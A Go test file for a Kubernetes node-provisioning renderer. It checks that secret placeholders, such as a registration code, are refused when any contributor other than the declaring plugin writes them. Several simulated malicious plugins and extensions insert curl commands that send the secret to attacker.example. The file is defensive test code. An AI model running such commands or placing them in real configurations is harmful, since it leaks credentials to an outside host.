package render_test

import (
	"context"
	"encoding/json"
	"io/fs"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	osmv1alpha1 "github.com/osmhq/osm/crds/osm/v1alpha1"
	"github.com/osmhq/osm/host/render"
	"github.com/osmhq/osm/sdk/abi"
)

// funcPlugin is a plugin whose render and encode are the test's functions.
type funcPlugin struct {
	secretPlugin
	render func(req *abi.RenderRequest, cfg *abi.NodeConfig)
	encode func(req *abi.EncodeRequest, data []byte) []byte
}

func (p *funcPlugin) Render(_ context.Context, req *abi.RenderRequest) (*abi.RenderResponse, error) {
	cfg := req.Input
	if p.render != nil {
		p.render(req, &cfg)
	}
	return &abi.RenderResponse{ABIVersion: abi.Version, Config: cfg}, nil
}

func (p *funcPlugin) Encode(_ context.Context, req *abi.EncodeRequest) (*abi.EncodeResponse, error) {
	data, err := json.Marshal(req.Config)
	if p.encode != nil {
		data = p.encode(req, data)
	}
	return &abi.EncodeResponse{ABIVersion: abi.Version, UserData: data}, err
}

type funcPlugins map[string]render.Plugin

func (s funcPlugins) Resolve(_ context.Context, _ string, ref *osmv1alpha1.PluginReference) (render.Plugin, error) {
	if p, ok := s[ref.Builtin]; ok {
		return p, nil
	}
	return nil, errNoPlugin
}

var errNoPlugin = &render.Error{Reason: osmv1alpha1.ReasonPluginNotFound}

// declaring is the profile's plugin: it writes the registration code into /etc/regcode (0600) in the
// provisioning stage, as a SLES plugin would.
func declaring(mode fs.FileMode, extra func(req *abi.RenderRequest, cfg *abi.NodeConfig)) *funcPlugin {
	return &funcPlugin{secretPlugin: secretPlugin{name: "main"}, render: func(req *abi.RenderRequest, cfg *abi.NodeConfig) {
		code, err := req.Context.Secrets.PluginSecret("registration-code")
		if err == nil && req.Stage == abi.StageProvisioning {
			cfg.SetFile(abi.PlainFile("/etc/regcode", mode, "code="+code+"\n"))
		}
		if extra != nil {
			extra(req, cfg)
		}
	}}
}

// thief writes what it can find into a curl to its author's server, in the stage given (both when "").
func thief(stage abi.Stage, what func(req *abi.RenderRequest, cfg *abi.NodeConfig) string) *funcPlugin {
	return &funcPlugin{secretPlugin: secretPlugin{name: "thief"}, render: func(req *abi.RenderRequest, cfg *abi.NodeConfig) {
		if stage != "" && req.Stage != stage {
			return
		}
		m := cfg.EnsureModules()
		m.RunCMD = append(m.RunCMD, "curl -d '"+what(req, cfg)+"' https://attacker.example/")
	}}
}

func extensionWith(name string, stage abi.Stage, part osmv1alpha1.ExtensionConfig, plugins ...string) *osmv1alpha1.OperatingSystemProfileExtension {
	x := &osmv1alpha1.OperatingSystemProfileExtension{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "kube-system"}}
	if stage == abi.StageBootstrap {
		x.Spec.BootstrapConfig = &part
	} else {
		x.Spec.ProvisioningConfig = &part
	}
	for _, p := range plugins {
		x.Spec.Plugins = append(x.Spec.Plugins, osmv1alpha1.PluginReference{Builtin: p})
	}
	return x
}

func fileOf(path, data string, mode int32) osmv1alpha1.File {
	return osmv1alpha1.File{Path: path, Permissions: &mode, Content: osmv1alpha1.FileContent{Inline: &osmv1alpha1.FileContentInline{Data: data}}}
}

// TestPlaceholdersCarryProvenance: a plugin secret's placeholder reaches the user-data only where the plugin
// that declared it wrote it (a file of the provisioning stage that is not world-readable); every other
// contributor that writes or moves it — the profile's templates, a spec.plugins plugin, an extension's files,
// commands or plugins, the encoder — fails the render with SecretPlaceholderRefused naming the contributor. The
// cloud-config and registry credential placeholders may enter the bootstrap stage only from the profile itself.
func TestPlaceholdersCarryProvenance(t *testing.T) {
	secretPH := regcodePlaceholder
	fromContext := func(req *abi.RenderRequest, cfg *abi.NodeConfig) string {
		// What a contributor without the secret can do: guess the placeholder from the secret's name, or copy it
		// from the configuration it was handed.
		for _, f := range cfg.Files {
			if strings.Contains(f.Content.Inline.Data, "__OSM_SECRET_PLUGIN_") {
				return f.Content.Inline.Data
			}
		}
		return secretPH
	}
	type tc struct {
		name    string
		utility string
		osp     func(*osmv1alpha1.OperatingSystemProfile)
		plugins funcPlugins
		exts    []*osmv1alpha1.OperatingSystemProfileExtension
		// reason and want are what Render (or, with userData, UserData) must fail with; "" renders.
		reason, want string
		userData     bool
	}
	base := func() funcPlugins {
		return funcPlugins{"main": declaring(0o600, nil), "pipe": &funcPlugin{secretPlugin: secretPlugin{name: "pipe"}}}
	}
	with := func(extra map[string]render.Plugin) funcPlugins {
		p := base()
		for k, v := range extra {
			p[k] = v
		}
		return p
	}
	refused := osmv1alpha1.ReasonSecretPlaceholderRefused
	for _, c := range []tc{
		{name: "the declaring plugin's 0600 file renders", plugins: base()},
		{name: "the profile's template writes the placeholder", osp: func(o *osmv1alpha1.OperatingSystemProfile) {
			o.Spec.ProvisioningConfig.Files = append(o.Spec.ProvisioningConfig.Files, fileOf("/etc/steal", "x="+secretPH, 600))
		}, plugins: base(), reason: refused, want: "profile kube-system/osp-ubuntu spec.provisioningConfig (its templates) writes a plugin secret placeholder into file /etc/steal"},
		{name: "a spec.plugins plugin copies it into a command", plugins: with(map[string]render.Plugin{"pipe": thief(abi.StageProvisioning, fromContext)}),
			reason: refused, want: "spec.plugins[0] (plugin thief) writes a plugin secret placeholder into runcmd"},
		{name: "a spec.plugins plugin copies it into the bootstrap stage", plugins: with(map[string]render.Plugin{"pipe": thief(abi.StageBootstrap, fromContext)}),
			reason: refused, want: "spec.plugins[0] (plugin thief) writes a plugin secret placeholder into runcmd"},
		{name: "a spec.plugins plugin makes the file world-readable", plugins: with(map[string]render.Plugin{"pipe": &funcPlugin{secretPlugin: secretPlugin{name: "chmod"},
			render: func(_ *abi.RenderRequest, cfg *abi.NodeConfig) {
				for i := range cfg.Files {
					if cfg.Files[i].Path == "/etc/regcode" {
						mode := int32(644)
						cfg.Files[i].Permissions = &mode
					}
				}
			}}}), reason: refused, want: "spec.plugins[0] (plugin chmod) changes file /etc/regcode"},
		{name: "an extension's file holds the placeholder", plugins: base(),
			exts: []*osmv1alpha1.OperatingSystemProfileExtension{extensionWith("x-file", abi.StageProvisioning, osmv1alpha1.ExtensionConfig{
				Files: []osmv1alpha1.File{fileOf("/etc/exfil", secretPH, 644)}})},
			reason: refused, want: "extension kube-system/x-file spec.provisioningConfig writes a plugin secret placeholder into file /etc/exfil"},
		{name: "an extension's command holds the placeholder", plugins: base(),
			exts: []*osmv1alpha1.OperatingSystemProfileExtension{extensionWith("x-curl", abi.StageProvisioning, osmv1alpha1.ExtensionConfig{
				CloudInitModules: &osmv1alpha1.CloudInitModule{RunCMD: []string{"curl https://attacker.example/?c=" + secretPH}}})},
			reason: refused, want: "extension kube-system/x-curl spec.provisioningConfig writes a plugin secret placeholder into runcmd"},
		{name: "an extension's bootstrap file holds the placeholder", plugins: base(),
			exts: []*osmv1alpha1.OperatingSystemProfileExtension{extensionWith("x-boot", abi.StageBootstrap, osmv1alpha1.ExtensionConfig{
				Files: []osmv1alpha1.File{fileOf("/etc/exfil", secretPH, 600)}})},
			reason: refused, want: "extension kube-system/x-boot spec.bootstrapConfig writes a plugin secret placeholder into file /etc/exfil"},
		{name: "an extension overrides the secret's file", plugins: base(),
			exts: []*osmv1alpha1.OperatingSystemProfileExtension{extensionWith("x-over", abi.StageProvisioning, osmv1alpha1.ExtensionConfig{
				Files: []osmv1alpha1.File{fileOf("/etc/regcode", "curl https://attacker.example/?c="+secretPH, 755)}, Overrides: []string{"/etc/regcode"}})},
			reason: refused, want: "extension kube-system/x-over spec.provisioningConfig changes file /etc/regcode"},
		{name: "an extension's plugin copies it into a command", plugins: with(map[string]render.Plugin{"thief": thief(abi.StageProvisioning, fromContext)}),
			exts:   []*osmv1alpha1.OperatingSystemProfileExtension{extensionWith("x-plugin", abi.StageProvisioning, osmv1alpha1.ExtensionConfig{}, "thief")},
			reason: refused, want: "extension kube-system/x-plugin spec.plugins[0] (plugin thief) writes a plugin secret placeholder into runcmd"},
		{name: "the declaring plugin writes a world-readable file", plugins: with(map[string]render.Plugin{"main": declaring(0o644, nil)}),
			reason: refused, want: "spec.plugin (plugin main) writes a plugin secret placeholder into file /etc/regcode with permissions 0644"},
		{name: "the declaring plugin writes it into a command", plugins: with(map[string]render.Plugin{"main": declaring(0o600, func(req *abi.RenderRequest, cfg *abi.NodeConfig) {
			if req.Stage == abi.StageProvisioning {
				cfg.EnsureModules().RunCMD = append(cfg.EnsureModules().RunCMD, "register "+req.Context.Secrets.Plugin["registration-code"])
			}
		})}), reason: refused, want: "spec.plugin (plugin main) writes a plugin secret placeholder into runcmd"},
		{name: "the declaring plugin writes it into the bootstrap stage", plugins: with(map[string]render.Plugin{"main": declaring(0o600, func(req *abi.RenderRequest, cfg *abi.NodeConfig) {
			cfg.SetFile(abi.PlainFile("/etc/early", 0o600, req.Context.Secrets.Plugin["registration-code"]))
		})}), reason: refused, want: "spec.plugin (plugin main) writes a plugin secret placeholder into the bootstrap stage (file /etc/early)"},
		{name: "a spec.plugins plugin adds the cloud-config to the bootstrap stage", plugins: with(map[string]render.Plugin{"pipe": thief(abi.StageBootstrap,
			func(req *abi.RenderRequest, _ *abi.NodeConfig) string { return req.Context.Secrets.CloudConfig })}),
			osp: func(o *osmv1alpha1.OperatingSystemProfile) {}, reason: refused,
			want: "spec.plugins[0] (plugin thief) puts the cloud-config placeholder __OSM_SECRET_CLOUD_CONFIG__ into the bootstrap stage"},
		{name: "an extension adds the cloud-config to the bootstrap stage", plugins: base(),
			exts: []*osmv1alpha1.OperatingSystemProfileExtension{extensionWith("x-cc", abi.StageBootstrap, osmv1alpha1.ExtensionConfig{
				Files: []osmv1alpha1.File{fileOf("/etc/cc", "{{ .CloudConfig }}", 600)}})},
			reason: refused, want: "extension kube-system/x-cc spec.bootstrapConfig puts the cloud-config placeholder"},
		{name: "an extension's provisioning files may hold the cloud-config", plugins: base(),
			exts: []*osmv1alpha1.OperatingSystemProfileExtension{extensionWith("x-cc-prov", abi.StageProvisioning, osmv1alpha1.ExtensionConfig{
				Files: []osmv1alpha1.File{fileOf("/etc/cc", "{{ .CloudConfig }}", 600)}})}},
		{name: "the encoder copies the secret into the bootstrap user-data", utility: "secret-format", userData: true,
			plugins: with(map[string]render.Plugin{"main": &funcPlugin{secretPlugin: secretPlugin{name: "main"}, render: declaring(0o600, nil).render,
				encode: func(req *abi.EncodeRequest, data []byte) []byte {
					return append(data, "\n"+req.Context.Secrets.Plugin["registration-code"]...)
				}}}),
			reason: refused, want: "the encoder of plugin main writes 1 plugin secret placeholders into the bootstrap user-data"},
	} {
		t.Run(c.name, func(t *testing.T) {
			utility := c.utility
			if utility == "" {
				utility = abi.UtilityCloudInit
			}
			osp := secretProfile(t, utility)
			if c.osp != nil {
				c.osp(osp)
			}
			md := upstreamMD(t, "workers", osp.Name, "1.33.2", "ubuntu", "aws", `{}`)
			pc := map[string]any{}
			raw := md.Spec.Template.Spec.ProviderSpec.Value
			if err := json.Unmarshal(raw.Raw, &pc); err != nil {
				t.Fatal(err)
			}
			pc["overwriteCloudConfig"] = "[Global]\nzone=a\n" // the machine brings a cloud-config: its placeholder applies
			raw.Raw, _ = json.Marshal(pc)
			in := render.Input{MachineDeployment: md, Profile: osp, Extensions: c.exts,
				Cluster: render.ClusterInfo{ServerURL: "https://api:6443", CACert: "ca"}, Settings: upstreamSettings(true)}
			out, err := (&render.Renderer{Plugins: c.plugins}).Render(context.Background(), in)
			var data []byte
			values := render.SecretValues{CloudConfig: "cc-value", Plugin: map[string]string{"registration-code": regcodeValue}}
			if err == nil {
				for _, stage := range []abi.Stage{abi.StageBootstrap, abi.StageProvisioning} {
					var d []byte
					if d, err = out.UserData(context.Background(), stage, values); err != nil {
						break
					}
					data = append(data, d...)
				}
			}
			if c.reason == "" {
				if err != nil {
					t.Fatal(err)
				}
				if !strings.Contains(string(data), "code="+regcodeValue) {
					t.Error("the declaring plugin's file does not hold the value")
				}
				return
			}
			wantReason(t, c.name, err, c.reason, c.want)
		})
	}
}
